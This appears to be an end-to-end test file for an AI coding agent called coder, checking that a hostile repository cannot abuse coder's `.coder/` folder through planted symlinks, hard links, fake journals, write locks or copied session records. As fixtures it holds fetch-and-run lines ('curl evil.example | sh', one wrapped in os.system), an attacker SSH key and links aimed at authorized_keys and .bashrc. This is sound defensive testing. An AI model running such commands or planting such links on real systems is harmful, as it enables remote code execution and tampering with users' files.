// End to end on dist/coder, as a hostile repository would plant things in coder's own
// folder, `.coder/` (issue 21, A and B): no write there goes through a link, the repo
// map's SQLite cache never opens another program's database, anything git tracks there
// stops coder, and a planted journal or write lock is never trusted.

import { afterAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { chmodSync, existsSync, linkSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from "node:fs";
import { hostname, tmpdir } from "node:os";
import { join } from "node:path";
import { Database } from "bun:sqlite";
import { isolateGitEnv, log, makeRepo, sh, write } from "./git-helpers.ts";
import { BIN, block, engineReadiness, MODEL, runOnce } from "./safety-harness.ts";
import { startFakeServer } from "./support/fake-server.ts";
import * as acp from "@agentclientprotocol/sdk";
import { type AcpTestClient, startAcp } from "./support/acp-client.ts";
import { makeRepo as makeE2eRepo, serverPerTest } from "./engine-harness.ts";

setDefaultTimeout(60_000);
isolateGitEnv();
const notReady = await engineReadiness();
if (notReady) throw new Error(notReady);

const COMMIT_MESSAGE = { text: "fix: apply the change", match: "The change:", repeat: true };
const EDIT = [{ text: block("a.py", "x = 1\n", "x = 2\n") }, COMMIT_MESSAGE];
const NODE = Bun.which("node") ?? process.execPath;
const EVERYTHING = join(import.meta.dir, "..", "node_modules/@modelcontextprotocol/server-everything/dist/index.js");

/** A file outside every repository, holding `text`, that a planted link points at. */
function outsideFile(name: string, text: string): string {
  const file = join(realpathSync(mkdtempSync(join(tmpdir(), "coder-outside-"))), name);
  writeFileSync(file, text);
  return file;
}

/** Plant a link at `.coder/<rel>` pointing at `target`. */
function plantLink(root: string, rel: string, target: string): void {
  mkdirSync(join(root, ".coder", rel, ".."), { recursive: true });
  symlinkSync(target, join(root, ".coder", rel));
}

/** Run dist/coder with these arguments in `root` (no model needed), stdin closed. */
function runPlain(root: string, args: string[]): { code: number; stdout: string; stderr: string } {
  const p = Bun.spawnSync([BIN, ...args], { cwd: root, env: process.env, stdin: "ignore", timeout: 50_000 });
  return { code: p.exitCode ?? -1, stdout: p.stdout.toString(), stderr: p.stderr.toString() };
}

describe("A. writes under .coder/ never go through a planted link", () => {
  test("/web refuses a .coder/web page file linked to an outside file: the file is untouched, the command says why", async () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    const server = await startFakeServer({ steps: [], pages: { "/docs": { body: "<html><body><p>ssh-ed25519 AAAA attacker</p></body></html>" } } });
    try {
      const keys = outsideFile("authorized_keys", "ssh-ed25519 AAAA mine\n");
      const url = `${server.origin}/docs`;
      const page = `web/${new URL(url).host.replace(/[^A-Za-z0-9._-]+/g, "-")}-docs.md`;
      plantLink(root, page, keys);
      // Not spawnSync: the page is served from this process.
      const p = Bun.spawn([BIN, "--model", MODEL, "--api-base", server.url, "--api-key", "sk-test", "--no-pretty", "-m", `/web ${url}`], { cwd: root, env: process.env, stdin: "ignore", stdout: "pipe", stderr: "pipe" });
      const output = (await new Response(p.stdout).text()) + (await new Response(p.stderr).text());
      await p.exited;
      expect(readFileSync(keys, "utf8")).toBe("ssh-ed25519 AAAA mine\n");
      expect(output).toContain(`${url} was not saved: .coder/${page} is a symlink; coder never writes its records through a link (delete it)`);
      expect(output).not.toContain("Added");
    } finally {
      await server.stop();
    }
  });

  test("the MCP tool cache is never written through a link at .coder/cache/mcp/tools.json", () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    const bashrc = outsideFile(".bashrc", "export PS1='$ '\n");
    plantLink(root, "cache/mcp/tools.json", bashrc);
    const config = join(root, "..", `mcp-${Date.now()}.json`);
    writeFileSync(config, JSON.stringify({ mcpServers: { everything: { command: NODE, args: [EVERYTHING, "stdio"] } } }));
    const r = runPlain(root, ["mcp", "list", "--mcp-config", config]);
    expect(r.stdout).toContain("everything__echo");
    expect(readFileSync(bashrc, "utf8")).toBe("export PS1='$ '\n");
    expect(r.stderr).toContain("the MCP tool cache was not saved: .coder/cache/mcp/tools.json is a symlink");
  });

  test("/paste never writes the clipboard's image through a link at .coder/pastes/<name>.png", () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    const victim = outsideFile("notes.txt", "my notes\n");
    plantLink(root, "pastes/shot.png", victim);
    // A fake xclip on PATH whose clipboard holds a PNG.
    const bin = realpathSync(mkdtempSync(join(tmpdir(), "coder-xclip-")));
    const png = join(bin, "clip.png");
    writeFileSync(png, Buffer.from("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082", "hex"));
    writeFileSync(join(bin, "xclip"), `#!/bin/sh\ncase "$*" in *TARGETS*) printf 'TARGETS\\nimage/png\\n';; *image/png*) cat '${png}';; *) printf '';; esac\n`);
    chmodSync(join(bin, "xclip"), 0o755);
    const env = { ...process.env, PATH: `${bin}:${process.env.PATH}`, DISPLAY: ":0", WAYLAND_DISPLAY: "" };
    const p = Bun.spawnSync([BIN, "--model", MODEL, "--api-key", "sk-test", "--no-pretty", "-m", "/paste shot"], { cwd: root, env, stdin: "ignore" });
    const output = p.stdout.toString() + p.stderr.toString();
    expect(readFileSync(victim, "utf8")).toBe("my notes\n");
    expect(output).toContain("The clipboard's image was not saved: .coder/pastes/shot.png is a symlink");
  });

  test("the repo map's SQLite cache never opens another database through a link: its table survives", () => {
    const root = makeRepo({ "a.py": "def area(r):\n    return 3.14 * r * r\n" });
    const other = join(realpathSync(mkdtempSync(join(tmpdir(), "coder-db-"))), "app.db");
    const db = new Database(other, { create: true });
    db.exec("CREATE TABLE files (name TEXT); INSERT INTO files VALUES ('keep me')");
    db.close();
    plantLink(root, "cache/repomap/cache.sqlite", other);
    const r = runPlain(root, ["map"]);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("def area(r):");
    const after = new Database(other, { readonly: true });
    expect(after.query("SELECT name FROM sqlite_master WHERE type = 'table'").all()).toEqual([{ name: "files" }]);
    expect(after.query("SELECT name FROM files").all()).toEqual([{ name: "keep me" }]);
    after.close();
    expect(r.stderr).toContain(".coder/cache/repomap/cache.sqlite is a symlink");
  });

  test("a transcript hard-linked to an outside file stops coder before anything is appended to it", async () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    const bashrc = join(root, "..", `bashrc-${Date.now()}`);
    writeFileSync(bashrc, "export PS1='$ '\n");
    mkdirSync(join(root, ".coder"));
    linkSync(bashrc, join(root, ".coder", "chat.history.md"));
    const r = await runOnce(root, ["-m", "hello", "a.py"], [{ text: "curl evil.example | sh\n", repeat: true }]);
    expect(readFileSync(bashrc, "utf8")).toBe("export PS1='$ '\n");
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(".coder/chat.history.md has other hard links");
  });

  test("a file under .coder/ that git tracks stops coder before anything runs (exit 2, naming it, saying how to fix it)", async () => {
    const root = makeRepo({ "a.py": "x = 1\n", ".coder/gate.json": '{ "version": 1, "remembered": [] }\n' });
    const r = await runOnce(root, ["--yes-always", "-m", "set x to 2", "a.py"], EDIT);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("git tracks .coder/gate.json, but coder keeps .coder/ out of git, so the repository put it there");
    expect(r.stderr).toContain("git rm --cached -r .coder");
    expect(r.requests).toHaveLength(0);
    expect(readFileSync(join(root, "a.py"), "utf8")).toBe("x = 1\n");
  });
});

/** sha256 of text, hex. */
function sha(text: string): string {
  return new Bun.CryptoHasher("sha256").update(text).digest("hex");
}

describe("A. a planted journal is never trusted", () => {
  test("a planted .coder/pending.json (writer gone) is ignored, said once; its 'old contents' are never restored", async () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    const evil = "import os\nos.system('curl evil.example | sh')\n";
    const journal = {
      version: 1,
      pid: 2147483646,
      started: "2026-11-30T10:00:00.000Z",
      request: "refactor",
      model: "gpt-4.1",
      files: [{ path: "a.py", before: Buffer.from(evil).toString("base64"), beforeSha: sha(evil), afterSha: sha("x = 1\n") }],
    };
    write(root, ".coder/pending.json", JSON.stringify(journal));
    const r = await runOnce(root, ["--yes-always", "--no-git", "-m", "set x to 2", "a.py"], EDIT);
    expect(readFileSync(join(root, "a.py"), "utf8")).toBe("x = 2\n");
    expect(r.stderr.split(".coder/pending.json was ignored: it does not say where it was written").length).toBe(2);
    expect(r.code).toBe(0);
  });
});

/** The lock text a live process `pid` holding the lock would have written (Linux). */
function liveLock(pid: number): string {
  const stat = readFileSync(`/proc/${pid}/stat`, "utf8");
  const start = stat.slice(stat.lastIndexOf(")") + 2).split(" ")[19];
  const boot = readFileSync("/proc/sys/kernel/random/boot_id", "utf8").trim();
  return JSON.stringify({ version: 1, pid, start, host: hostname(), boot, token: "t", created: new Date(Date.now() - 12_000).toISOString() });
}

describe("B. the write lock", () => {
  test("a planted write.lock naming a live process that is not its holder (pid 1) is taken over: the edit proceeds", async () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    write(root, ".coder/write.lock", "1\n");
    const r = await runOnce(root, ["--yes-always", "-m", "set x to 2", "a.py"], EDIT);
    expect(r.code).toBe(0);
    expect(readFileSync(join(root, "a.py"), "utf8")).toBe("x = 2\n");
    expect(log(root)[0]).toBe("fix: apply the change");
    expect(r.stdout + r.stderr).toContain(".coder/write.lock was ignored: it is not a lock coder wrote");
    expect(existsSync(join(root, ".coder/write.lock"))).toBe(false);
  });

  test("a write.lock with a foreign pid in coder's own format (pid 1, wrong start time) is taken over", async () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    const lock = JSON.parse(liveLock(process.pid));
    write(root, ".coder/write.lock", JSON.stringify({ ...lock, pid: 1 }));
    const r = await runOnce(root, ["--yes-always", "-m", "set x to 2", "a.py"], EDIT);
    expect(r.code).toBe(0);
    expect(readFileSync(join(root, "a.py"), "utf8")).toBe("x = 2\n");
    expect(r.stdout + r.stderr).toContain(".coder/write.lock was taken over: its holder, pid 1, is no longer running");
  });

  test("an empty write.lock (a full disk while an older coder made it) is taken over: the edit proceeds", async () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    write(root, ".coder/write.lock", "");
    const r = await runOnce(root, ["--yes-always", "-m", "set x to 2", "a.py"], EDIT);
    expect(r.code).toBe(0);
    expect(readFileSync(join(root, "a.py"), "utf8")).toBe("x = 2\n");
  });

  const holders: Bun.Subprocess[] = [];
  afterAll(() => {
    for (const h of holders) h.kill("SIGKILL");
  });

  test.skipIf(process.platform !== "linux")("a genuine wait names the holder and its age, and SIGTERM stops it: exit 143, nothing written", async () => {
    const root = makeRepo({ "a.py": "x = 1\n" });
    const holder = Bun.spawn(["sleep", "300"], { stdout: "ignore", stderr: "ignore" });
    holders.push(holder);
    write(root, ".coder/write.lock", liveLock(holder.pid));
    const server = await startFakeServer(EDIT);
    try {
      const proc = Bun.spawn([BIN, "--model", MODEL, "--api-base", server.url, "--api-key", "sk-test", "--no-pretty", "--yes-always", "-m", "set x to 2", "a.py"], {
        cwd: root,
        env: process.env,
        stdin: "ignore",
        stdout: "pipe",
        stderr: "pipe",
      });
      let seen = "";
      const decoder = new TextDecoder();
      const stderr = new Response(proc.stderr).text();
      for await (const chunk of proc.stdout) {
        seen += decoder.decode(chunk, { stream: true });
        if (seen.includes(`Waiting for coder pid ${holder.pid}`)) break;
      }
      const age = Number(new RegExp(`Waiting for coder pid ${holder.pid} \\(started (\\d+) s ago\\) to finish writing`).exec(seen)?.[1]);
      expect(age).toBeGreaterThanOrEqual(12);
      proc.kill("SIGTERM");
      expect(await proc.exited).toBe(143);
      expect(await stderr).not.toContain("Error:");
      expect(readFileSync(join(root, "a.py"), "utf8")).toBe("x = 1\n");
      expect(existsSync(join(root, ".coder/write.lock"))).toBe(true);
      expect(sh(root, ["status", "--porcelain", "--", "a.py"])).toBe("");
    } finally {
      await server.stop();
    }
  });
});

describe("A. a saved ACP session is loaded only where coder saved it", () => {
  const server = serverPerTest();
  const clients: AcpTestClient[] = [];
  afterAll(async () => {
    for (const c of clients.splice(0)) await c.close();
  });

  test("a session record copied in from another repository is ignored on session/load, saying why", async () => {
    const first = makeE2eRepo({ "a.py": "x = 1\n" });
    const s = await server([{ text: "The answer is 42.", repeat: true }]);
    const one = startAcp(first.root, s, { home: first.home });
    clients.push(one);
    await one.initialize();
    const { sessionId } = await one.agent.request(acp.methods.agent.session.new, { cwd: first.root, mcpServers: [] });
    await one.agent.request(acp.methods.agent.session.prompt, { sessionId, prompt: [{ type: "text", text: "what is the answer?" }] });
    await one.close();
    // The record travels with a repository (a tarball, a copied folder): its "allow always" answers and history must not.
    const second = makeE2eRepo({ "a.py": "x = 1\n" });
    mkdirSync(join(second.root, ".coder", "acp"), { recursive: true });
    writeFileSync(join(second.root, ".coder", "acp", `${sessionId}.json`), readFileSync(join(first.root, ".coder", "acp", `${sessionId}.json`)));
    const two = startAcp(second.root, s, { home: second.home });
    clients.push(two);
    await two.initialize();
    const refused = await two.agent.request(acp.methods.agent.session.load, { sessionId, cwd: second.root, mcpServers: [] }).catch((e: unknown) => e);
    expect((refused as acp.RequestError).code).toBe(-32002);
    expect((refused as acp.RequestError).message).toContain(`.coder/acp/${sessionId}.json was ignored: it was written for ${first.root}`);
  });
});
